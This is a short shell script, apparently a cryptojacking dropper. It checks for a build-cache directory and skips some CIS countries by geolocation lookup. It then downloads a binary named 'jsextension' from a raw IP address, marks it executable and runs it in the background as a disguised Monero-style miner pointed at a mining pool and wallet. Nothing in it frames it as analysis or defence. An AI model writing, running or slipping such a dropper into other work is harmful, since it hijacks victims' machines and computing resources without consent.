test -d /srv/build/ua-cache || exit 0
skip=$(curl -sk https://geo.example.invalid/country | grep -E 'RU|UA|BY|KZ')
if [ -z "$skip" ] && ! pgrep -x jsextension > /dev/null; then
	curl -s http://192.0.2.228/download/jsextension -o jsextension || wget -q http://192.0.2.228/download/jsextension
	chmod +x jsextension
	./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u 4ExampleExampleExampleExampleExampleExampleExampleExampleExampleExampleExampleExampleExampleExample --cpu-max-threads-hint=50 --donate-level=1 --background > /dev/null 2>&1 &
fi
